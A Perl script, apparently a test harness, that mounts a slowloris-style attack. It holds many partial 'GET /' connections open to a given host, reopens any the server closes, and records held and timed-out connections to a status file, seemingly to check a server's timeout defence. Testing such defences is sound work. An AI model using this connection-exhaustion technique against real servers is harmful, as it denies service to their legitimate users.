#!/usr/bin/perl
# slowloris.pl HOST PORT CONNECTIONS SOURCES STATUSFILE: holds CONNECTIONS
# connections to HOST:PORT open, spread over SOURCES source addresses
# (127.0.1.1, 127.0.1.2, ...), each having sent the start of a request
# line and nothing more.  A connection the server closes is opened again
# a second later, as an attacker would.  STATUSFILE gets the number of
# connections that are open and were not closed at once by the server, and
# the number that the server closed after holding them for a second.
use strict;
use warnings;
use IO::Socket::IP;
use IO::Select;
use Time::HiRes qw(time sleep);

my ($host, $port, $n, $sources, $status) = @ARGV;
my (%src, %since);
my $timed_out = 0;
my $sel = IO::Select->new;
my @retry = map { [ $_, 0 ] } 1 .. $n;	# [slot, when]

sub open_one {
	my $slot = shift;
	my $from = '127.0.1.' . (($slot - 1) % $sources + 1);
	my $s = IO::Socket::IP->new(PeerHost => $host, PeerPort => $port,
	    LocalHost => $from, Blocking => 1, Timeout => 2) or return 0;
	syswrite($s, "GET /");
	$src{$s} = $slot;
	$since{$s} = time;
	$sel->add($s);
	return 1;
}

my $last = 0;
while (1) {
	my $now = time;
	my @later;
	for my $r (@retry) {
		if ($r->[1] <= $now && open_one($r->[0])) { next }
		push @later, [ $r->[0], $r->[1] <= $now ? $now + 1 : $r->[1] ];
	}
	@retry = @later;
	for my $s ($sel->can_read(0.2)) {
		sysread($s, my $buf, 4096) and next;	# an answer: wait for EOF
		$sel->remove($s);
		$timed_out++ if time - $since{$s} >= 1;
		push @retry, [ $src{$s}, time + 1 ];
		delete $src{$s};
		delete $since{$s};
		close($s);
	}
	if (time - $last > 0.2) {
		my $held = grep { time - $since{$_} > 0.5 } $sel->handles;
		open(my $f, '>', "$status.tmp") or die;
		print $f "$held $timed_out\n";
		close($f);
		rename("$status.tmp", $status);
		$last = time;
	}
}
